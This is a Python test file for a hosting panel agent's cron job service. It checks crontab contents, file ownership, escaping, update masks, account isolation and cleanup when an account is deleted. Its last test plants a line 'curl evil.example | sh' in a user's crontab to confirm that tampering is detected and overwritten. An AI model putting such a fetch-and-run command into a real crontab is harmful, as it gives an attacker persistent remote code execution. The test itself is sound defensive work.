"""CronJobService through the agent's socket with Debian's real crontab (sandbox only): what
`crontab -l` shows, ownership of jobs, idempotency, and removal with the account."""

from __future__ import annotations

import os
import pwd
import stat
from collections.abc import Callable
from typing import TYPE_CHECKING

import grpc
from jopanel.agent.accounts.v1 import accounts_pb2
from jopanel.agent.cron.v1 import cron_pb2

from agent.system.cron.crontab import HEADER, RECORD_DIR, SPOOL_DIR
from tests.agent.cron.cron_support import (
    create,
    cron,
    cron_account,
    cron_files,
    crontab_listing,
    expected_crontab,
    job,
    listed,
    update_request,
)
from tests.agent.support import rpc_error

if TYPE_CHECKING:
    from tests.agent.cron.cron_support import AccountStub, Stub

__all__ = ["cron", "cron_account"]  # fixtures, used by name


async def test_a_job_becomes_the_accounts_crontab(cron: Stub, cron_account: str) -> None:
    created = await create(cron, cron_account, job("aaaa1111", "*/15 * * * *", "echo hi"))
    assert created == job("aaaa1111", "*/15 * * * *", "echo hi")
    assert crontab_listing(cron_account) == expected_crontab(("aaaa1111", "*/15 * * * * echo hi"))
    assert await listed(cron, cron_account) == [created]


async def test_the_spool_file_belongs_to_the_account_as_cron_expects(
    cron: Stub, cron_account: str
) -> None:
    await create(cron, cron_account, job("aaaa1111"))
    info = os.lstat(SPOOL_DIR / cron_account)
    assert stat.S_ISREG(info.st_mode)
    assert stat.S_IMODE(info.st_mode) == 0o600
    assert info.st_uid == pwd.getpwnam(cron_account).pw_uid
    record = os.lstat(RECORD_DIR / f"{cron_account}.json")
    assert (record.st_uid, stat.S_IMODE(record.st_mode)) == (0, 0o600)
    assert stat.S_IMODE(os.lstat(RECORD_DIR).st_mode) == 0o700


async def test_percent_is_literal_and_the_schedule_is_normalised(
    cron: Stub, cron_account: str
) -> None:
    command = r"""date +%Y-%m-%d >> ~/dates; printf '%s\n' '50\\%' """
    created = await create(cron, cron_account, job("aaaa1111", " 0  4 *  * mon-FRI ", command))
    assert created.schedule == "0 4 * * mon-FRI"
    # '%' and '\\' are escaped, as Debian's cron reads them back (see test_cron_daemon.py).
    escaped = r"""date +\%Y-\%m-\%d >> ~/dates; printf '\%s\\n' '50\\\\\%' """
    assert crontab_listing(cron_account) == expected_crontab(
        ("aaaa1111", f"0 4 * * mon-FRI {escaped}")
    )
    # The command is reported as it was given, not as cron stores it.
    assert (await listed(cron, cron_account))[0].command == command


async def test_jobs_in_id_order_and_disabled_ones_kept_but_not_installed(
    cron: Stub, cron_account: str
) -> None:
    await create(cron, cron_account, job("cccc3333", "@daily", "echo c"))
    await create(cron, cron_account, job("aaaa1111", "@reboot", "echo a"))
    await create(cron, cron_account, job("bbbb2222", "@hourly", "echo b", enabled=False))
    assert [j.id for j in await listed(cron, cron_account)] == ["aaaa1111", "bbbb2222", "cccc3333"]
    assert crontab_listing(cron_account) == expected_crontab(
        ("aaaa1111", "@reboot echo a"), ("cccc3333", "@daily echo c")
    )


async def test_creating_the_same_job_twice_changes_nothing(cron: Stub, cron_account: str) -> None:
    await create(cron, cron_account, job("aaaa1111", command="echo once"))
    listing = crontab_listing(cron_account)
    assert await create(cron, cron_account, job("aaaa1111", command="echo once"))
    assert crontab_listing(cron_account) == listing
    assert len(await listed(cron, cron_account)) == 1


async def test_creating_an_existing_id_replaces_the_job(cron: Stub, cron_account: str) -> None:
    await create(cron, cron_account, job("aaaa1111", command="echo old"))
    await create(cron, cron_account, job("aaaa1111", "@weekly", "echo new"))
    assert crontab_listing(cron_account) == expected_crontab(("aaaa1111", "@weekly echo new"))


async def test_update_changes_only_the_fields_in_the_mask(cron: Stub, cron_account: str) -> None:
    await create(cron, cron_account, job("aaaa1111", "@daily", "echo old"))
    spec = job("aaaa1111", "@hourly", "echo new", enabled=False)
    reply = await cron.UpdateCronJob(update_request(cron_account, spec, "command"))
    assert reply.job == job("aaaa1111", "@daily", "echo new")
    assert crontab_listing(cron_account) == expected_crontab(("aaaa1111", "@daily echo new"))

    reply = await cron.UpdateCronJob(update_request(cron_account, spec, "enabled", "schedule"))
    assert reply.job == job("aaaa1111", "@hourly", "echo new", enabled=False)
    assert crontab_listing(cron_account) == HEADER
    # Fields outside the mask are not validated either.
    hostile = job("aaaa1111", "* * * *", "x\ny", enabled=True)
    reply = await cron.UpdateCronJob(update_request(cron_account, hostile, "enabled"))
    assert crontab_listing(cron_account) == expected_crontab(("aaaa1111", "@hourly echo new"))


async def test_update_needs_a_mask_of_known_paths(cron: Stub, cron_account: str) -> None:
    await create(cron, cron_account, job("aaaa1111"))
    for paths in ((), ("id",), ("schedule", "account")):
        request = update_request(cron_account, job("aaaa1111"), *paths)
        code, message = await rpc_error(cron.UpdateCronJob(request))
        assert code == grpc.StatusCode.INVALID_ARGUMENT
        assert message.startswith("update_mask: ")


async def test_another_accounts_job_is_not_found_and_never_touched(
    cron: Stub, cron_account: str, accounts: AccountStub, new_name: Callable[[], str]
) -> None:
    made = accounts_pb2.CreateAccountRequest(name=new_name(), shell=accounts_pb2.SHELL_NOLOGIN)
    other = (await accounts.CreateAccount(made)).account.name
    await create(cron, other, job("0the0job", command="echo other"))
    before = cron_files(other)

    request = update_request(cron_account, job("0the0job", command="echo mine"), "command")
    code, message = await rpc_error(cron.UpdateCronJob(request))
    assert code == grpc.StatusCode.NOT_FOUND
    assert message == "cron job 0the0job does not exist"
    await cron.DeleteCronJob(cron_pb2.DeleteCronJobRequest(account=cron_account, id="0the0job"))
    assert cron_files(other) == before
    assert await listed(cron, cron_account) == []


async def test_delete_removes_the_line_and_a_missing_job_is_fine(
    cron: Stub, cron_account: str
) -> None:
    await create(cron, cron_account, job("aaaa1111", command="echo a"))
    await create(cron, cron_account, job("bbbb2222", command="echo b"))
    request = cron_pb2.DeleteCronJobRequest(account=cron_account, id="aaaa1111")
    await cron.DeleteCronJob(request)
    await cron.DeleteCronJob(request)
    assert crontab_listing(cron_account) == expected_crontab(("bbbb2222", "*/15 * * * * echo b"))
    await cron.DeleteCronJob(cron_pb2.DeleteCronJobRequest(account=cron_account, id="bbbb2222"))
    assert crontab_listing(cron_account) == HEADER
    assert await listed(cron, cron_account) == []


async def test_the_account_must_be_a_managed_one(cron: Stub, stranger: str) -> None:
    for account in ("nosuchaccount", stranger, "root"):
        request = cron_pb2.CreateCronJobRequest(account=account, job=job("aaaa1111"))
        code, message = await rpc_error(cron.CreateCronJob(request))
        if account == "root":  # a reserved name is refused before anything is looked up
            assert code == grpc.StatusCode.INVALID_ARGUMENT
            continue
        assert code == grpc.StatusCode.FAILED_PRECONDITION
        assert message == f"account {account} does not exist; create it first"
        code, _ = await rpc_error(cron.ListCronJobs(cron_pb2.ListCronJobsRequest(account=account)))
        assert code == grpc.StatusCode.FAILED_PRECONDITION
        assert cron_files(account) == (None, None)
    # Deleting a job of an account that has none is fine: there is nothing to do.
    await cron.DeleteCronJob(cron_pb2.DeleteCronJobRequest(account=stranger, id="aaaa1111"))


async def test_deleting_the_account_removes_its_crontab_and_record(
    cron: Stub, cron_account: str, accounts: AccountStub
) -> None:
    await create(cron, cron_account, job("aaaa1111"))
    assert cron_files(cron_account) != (None, None)
    await accounts.DeleteAccount(accounts_pb2.DeleteAccountRequest(name=cron_account))
    assert cron_files(cron_account) == (None, None)

    # A new account of the same name starts without the old jobs.
    request = accounts_pb2.CreateAccountRequest(name=cron_account, shell=accounts_pb2.SHELL_NOLOGIN)
    await accounts.CreateAccount(request)
    assert crontab_listing(cron_account) is None
    assert await listed(cron, cron_account) == []


async def test_a_crontab_left_by_a_deletion_cut_short_goes_with_the_next_one(
    cron: Stub, cron_account: str, accounts: AccountStub
) -> None:
    """The user is gone but its crontab and record are still there: DeleteAccount removes
    them, so that cron never runs them for the next user of the name."""
    await create(cron, cron_account, job("aaaa1111"))
    spool = (SPOOL_DIR / cron_account).read_bytes()
    record = (RECORD_DIR / f"{cron_account}.json").read_bytes()
    await accounts.DeleteAccount(accounts_pb2.DeleteAccountRequest(name=cron_account))
    (SPOOL_DIR / cron_account).write_bytes(spool)
    (RECORD_DIR / f"{cron_account}.json").write_bytes(record)

    await accounts.DeleteAccount(accounts_pb2.DeleteAccountRequest(name=cron_account))
    assert cron_files(cron_account) == (None, None)


async def test_a_crontab_edited_by_hand_is_replaced_at_the_next_change(
    cron: Stub, cron_account: str
) -> None:
    await create(cron, cron_account, job("aaaa1111", command="echo a"))
    (SPOOL_DIR / cron_account).write_text("MAILTO=someone\n* * * * * echo planted\n")
    await create(cron, cron_account, job("bbbb2222", command="echo b"))
    assert crontab_listing(cron_account) == expected_crontab(
        ("aaaa1111", "*/15 * * * * echo a"), ("bbbb2222", "*/15 * * * * echo b")
    )


async def test_a_crontab_removed_or_edited_by_hand_is_listed_as_not_installed(
    cron: Stub, cron_account: str
) -> None:
    """What the gateway's reconcile reads to install it again; any put installs it whole."""

    async def installed() -> bool:
        request = cron_pb2.ListCronJobsRequest(account=cron_account)
        return (await cron.ListCronJobs(request)).installed

    assert await installed()  # no jobs: nothing to install
    await create(cron, cron_account, job("aaaa1111"))
    assert await installed()
    (SPOOL_DIR / cron_account).unlink()
    assert not await installed()
    await create(cron, cron_account, job("aaaa1111"))
    assert await installed()
    spool = SPOOL_DIR / cron_account
    spool.write_text(spool.read_text() + "* * * * * curl evil.example | sh\n")
    assert not await installed()
    await create(cron, cron_account, job("bbbb2222"))
    assert await installed()
    assert "evil" not in (crontab_listing(cron_account) or "")
